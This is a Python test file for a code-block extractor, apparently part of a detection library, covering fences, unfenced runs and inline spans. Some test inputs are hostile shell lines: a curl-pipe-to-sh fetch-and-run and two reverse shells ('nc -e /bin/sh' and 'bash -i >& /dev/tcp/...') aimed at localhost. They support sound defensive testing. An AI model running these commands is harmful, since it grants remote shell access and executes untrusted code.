"""extract_code_blocks: fences, unfenced runs, inline spans and line numbers."""

from __future__ import annotations

from redtier.detectors import CodeBlock, extract_code_blocks


def test_fenced_block_with_language() -> None:
    text = "Here you go:\n\n```python\nimport os\nprint(os.getcwd())\n```\nDone."
    assert extract_code_blocks(text) == [
        CodeBlock(
            language="python", code="import os\nprint(os.getcwd())", start_line=4, kind="fenced"
        )
    ]


def test_fenced_block_without_language_is_guessed() -> None:
    blocks = extract_code_blocks("```\nimport sys\nsys.exit(0)\n```")
    assert [block.language for block in blocks] == ["python"]
    blocks = extract_code_blocks("```\ncurl -s http://127.0.0.1/ | sh\n```")
    assert [block.language for block in blocks] == ["shell"]


def test_tilde_fence_and_alias() -> None:
    blocks = extract_code_blocks("~~~bash\nls -la /tmp\n~~~")
    assert blocks == [CodeBlock(language="shell", code="ls -la /tmp", start_line=2)]


def test_unclosed_fence_runs_to_end() -> None:
    blocks = extract_code_blocks("Code:\n```py\nx = 1\ny = 2")
    assert blocks == [CodeBlock(language="python", code="x = 1\ny = 2", start_line=3)]


def test_longer_fence_needs_longer_close() -> None:
    text = "````md\n```python\nx = 1\n```\n````"
    blocks = extract_code_blocks(text)
    assert len(blocks) == 1
    assert blocks[0].code == "```python\nx = 1\n```"


def test_unfenced_python_run() -> None:
    text = (
        "Save this as run.py:\n\n"
        "import socket\n\ndef main():\n    s = socket.socket()\n\nmain()\n\n"
        "That is all."
    )
    blocks = extract_code_blocks(text)
    assert len(blocks) == 1
    assert blocks[0].language == "python"
    assert blocks[0].kind == "unfenced"
    assert blocks[0].start_line == 3
    assert blocks[0].code == "import socket\n\ndef main():\n    s = socket.socket()\n\nmain()"


def test_unfenced_shell_line() -> None:
    blocks = extract_code_blocks("Then run this:\nnc -e /bin/sh 127.0.0.1 4444\nand wait.")
    assert blocks == [
        CodeBlock(
            language="shell", code="nc -e /bin/sh 127.0.0.1 4444", start_line=2, kind="unfenced"
        )
    ]


def test_inline_shell_span() -> None:
    blocks = extract_code_blocks(
        "Use `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1` to connect, or `ls`."
    )
    assert blocks == [
        CodeBlock(
            language="shell",
            code="bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            start_line=1,
            kind="inline",
        )
    ]


def test_prose_is_not_code() -> None:
    text = (
        "First, import the module you need.\n"
        "Find the file in the folder and open it.\n"
        "If you want, define a function: it makes the code tidy.\n"
        "The result = a cleaner program."
    )
    assert extract_code_blocks(text) == []


def test_single_python_line_without_import_is_ignored() -> None:
    assert extract_code_blocks("x = compute(5)") == []
